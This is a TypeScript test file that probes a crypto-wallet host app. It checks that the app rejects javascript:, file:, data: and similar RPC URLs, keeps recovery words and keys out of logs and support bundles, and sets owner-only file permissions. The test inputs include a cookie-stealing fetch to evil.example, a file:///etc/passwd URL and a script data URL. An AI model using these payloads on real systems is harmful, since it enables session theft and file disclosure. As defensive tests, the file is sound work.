import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { HDNodeWallet } from 'ethers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { Attacker, startTarget, stillAnswering, type Target } from './support/attacker.js';

// Issue 14, point 6, secrets at rest: against the real built host (its own keyring), with only
// the main window's token. RPC URLs that are not http(s)/ws(s) are refused; after a key is created
// and secrets are pushed at every channel that ends up in a log line or the support bundle, neither
// the log files nor the bundle hold the recovery words or the key; and the data folder and every
// file in it are readable by their user only.

let target: Target;
let attacker: Attacker;

beforeAll(async () => {
  target = await startTarget();
  attacker = await Attacker.connect(target.host);
});
afterAll(async () => {
  attacker?.close();
  await target?.stop();
});

/** Every file under a folder, with its path relative to it. */
function walk(dir: string, base = dir): Array<{ path: string; rel: string; isDir: boolean }> {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const path = join(dir, e.name);
    const entry = { path, rel: path.slice(base.length + 1), isDir: e.isDirectory() };
    return e.isDirectory() ? [entry, ...walk(path, base)] : e.isFile() ? [entry] : [];
  });
}

describe('settings.update refuses RPC URLs that are not http(s) or ws(s)', () => {
  const urls = [
    'javascript:alert(document.domain)',
    'JaVaScRiPt:fetch("//evil.example/"+document.cookie)',
    'file:///etc/passwd',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'blob:http://127.0.0.1/00000000-0000-0000-0000-000000000000',
    'ftp://evil.example/rpc',
    ' javascript:alert(1)',
    'vbscript:msgbox(1)',
  ];
  for (const url of urls) {
    it(`${JSON.stringify(url)}: SETTINGS_INVALID with a rule, nothing stored, the host still answers`, async () => {
      const answer = await attacker.call('settings.update', { rpcUrl: url });
      expect(answer.ok).toBe(false);
      if (answer.ok) return;
      expect(answer.error.code).toBe('SETTINGS_INVALID');
      expect(answer.error.facts).toMatchObject({ path: 'rpcUrl', rule: expect.stringMatching(/^rpcUrl(Scheme|Invalid)$/) });
      expect((await attacker.result<{ rpcUrl: string | null }>('settings.get')).rpcUrl).toBeNull();
      // settings.json is first written by an accepted update; a refused one may not create it.
      const file = join(target.host.dataDir, 'settings.json');
      if (existsSync(file)) expect((JSON.parse(readFileSync(file, 'utf8')) as { rpcUrl?: unknown }).rpcUrl ?? null).toBeNull();
      expect(await stillAnswering(target.host)).toBe(true);
    });
  }
});

describe('the recovery words and the key reach neither the log nor the support bundle', () => {
  let words: string[] = [];
  let key = '';
  let bundleText = '';
  let bundleFile = '';

  beforeAll(async () => {
    const created = await attacker.result<{ keyId: string; mnemonic: string }>('wallet.create', { label: 'Roof' });
    words = created.mnemonic.split(' ');
    key = HDNodeWallet.fromPhrase(created.mnemonic, undefined, "m/44'/60'/0'/0/0").privateKey.slice(2);
    expect(words).toHaveLength(12);

    // Everything a script in the main window can make the app remember: error answers (kept for
    // the bundle), internal failures (logged), settings (in the bundle), in every shape of issue 14.
    const numbered = words.map((w, i) => `${i + 1}. ${w}`).join(' ');
    const typo = words.map((w, i) => (i === 5 ? w.slice(0, -1) : w)).join(' ');
    const splitKey = key.replace(/(.{8})(?!$)/g, '$1 ');
    await attacker.call(numbered);
    await attacker.call(words.join('-'));
    await attacker.call(`restore ${typo}`);
    await attacker.call(JSON.stringify(words));
    await attacker.call(`key ${splitKey}`);
    await attacker.call(`${key.slice(0, 30)}\n${key.slice(30)}`);
    await attacker.call('wallet.import', { kind: 'mnemonic', mnemonic: typo, label: words.slice(0, 7).join(' ') });
    await attacker.call('wallet.import', { kind: 'privateKey', privateKey: `0x${key.slice(0, 60)}` });
    await attacker.call('settings.update', { rpcUrl: `javascript:${words.join('+')}` });
    await attacker.call('settings.update', { rpcUrl: `http://user:${key}@192.168.178.23:8545/${words.slice(0, 7).join('-')}` });
    await attacker.call('settings.update', { meterId: words.slice(0, 6).join(' ') });
    // Paths that write log lines while words or tokens are in the request: a failed backup check
    // (the right words at the wrong positions) and a connection refused for a token made of words.
    const { positions } = await attacker.result<{ positions: number[] }>('wallet.backupChallenge', { keyId: created.keyId });
    await attacker.call('wallet.confirmBackup', { keyId: created.keyId, words: positions.map((p) => ({ position: p, word: words[p % 12]! })) });
    await new Promise<void>((resolve) => {
      const ws = new WebSocket(`${target.host.origin.replace('http', 'ws')}/api?token=${words.join('-')}`, { origin: target.host.origin });
      ws.once('error', () => resolve());
      ws.once('close', () => resolve());
    });

    const preview = await attacker.result<{ previewId: string; redactions: Record<string, number> }>('diagnostics.bundlePreview', { frameMinutes: 10 });
    expect(Object.keys(preview.redactions).length).toBeGreaterThan(0);
    const saved = await attacker.result<{ file: string }>('diagnostics.bundleSave', { previewId: preview.previewId, gzip: false });
    bundleFile = saved.file;
    bundleText = readFileSync(bundleFile, 'utf8');
    // Put the settings back so the host does not keep dialling the planted endpoint.
    await attacker.result('settings.update', { rpcUrl: null, meterId: null });
  });

  /** Three words of the phrase in a row, whatever joins them (spaces, hyphens, quotes, numbers). */
  function phraseRuns(text: string): string[] {
    const tokens = text.toLowerCase().match(/[a-z]+/g) ?? [];
    const found: string[] = [];
    for (let i = 0; i + 3 <= tokens.length; i++) {
      for (let j = 0; j + 3 <= words.length; j++) {
        if (tokens[i] === words[j] && tokens[i + 1] === words[j + 1] && tokens[i + 2] === words[j + 2]) found.push(tokens.slice(i, i + 3).join(' '));
      }
    }
    return found;
  }

  /** Any 12 hex digits of the key, also with the separators of a split key taken out. */
  function keyPieces(text: string): string[] {
    const plain = text.toLowerCase();
    const joined = plain.replace(/[\s"',+:-]|\\n/g, '');
    const found: string[] = [];
    for (let i = 0; i + 12 <= key.length; i += 4) {
      const piece = key.slice(i, i + 12);
      if (plain.includes(piece) || joined.includes(piece)) found.push(piece);
    }
    return found;
  }

  it('the support bundle (saved file) holds none of them, and says it redacted', () => {
    expect(bundleText.length).toBeGreaterThan(1000);
    expect(phraseRuns(bundleText)).toEqual([]);
    expect(keyPieces(bundleText)).toEqual([]);
    expect(bundleText).not.toContain('192.168.178.23');
    const bundle = JSON.parse(bundleText) as { redactions: Record<string, number>; recentErrors: unknown[] };
    expect(bundle.recentErrors.length).toBeGreaterThan(5);
    expect(bundle.redactions['mnemonic']).toBeGreaterThan(0);
    expect(bundle.redactions['hex-secret']).toBeGreaterThan(0);
  });

  it('no log file holds them', () => {
    const logs = walk(join(target.host.dataDir, 'logs')).filter((f) => !f.isDir);
    expect(logs.map((f) => f.rel)).toContain('wattlet.log');
    const text = logs.map((f) => readFileSync(f.path, 'utf8')).join('\n');
    // The paths above ran and wrote their lines, so there was something to leak.
    expect(text).toContain('services started');
    expect(text).toContain('backup confirmation failed');
    expect(text).toContain('refused a websocket connection');
    expect(phraseRuns(text)).toEqual([]);
    expect(keyPieces(text)).toEqual([]);
  });

  it('nor does anything the host printed', () => {
    const printed = target.host.output.join('\n');
    expect(phraseRuns(printed)).toEqual([]);
    expect(keyPieces(printed)).toEqual([]);
  });

  it('the data folder and every folder in it are 0700, every file 0600 (settings, wallet, logs, history, bundle)', async () => {
    const dir = target.host.dataDir;
    expect(statSync(dir).mode & 0o777).toBe(0o700);
    const entries = walk(dir);
    const files = entries.filter((e) => !e.isDir).map((e) => e.rel);
    for (const expected of ['settings.json', 'wallet.json', 'logs/wattlet.log', 'history.sqlite', 'history.sqlite-wal', 'history.sqlite-shm']) expect(files).toContain(expected);
    expect(bundleFile.startsWith(join(dir, 'support'))).toBe(true);
    const wrong = entries.filter((e) => (statSync(e.path).mode & 0o777) !== (e.isDir ? 0o700 : 0o600)).map((e) => `${e.rel} ${(statSync(e.path).mode & 0o777).toString(8)}`);
    expect(wrong).toEqual([]);
    expect(await stillAnswering(target.host)).toBe(true);
  });
});
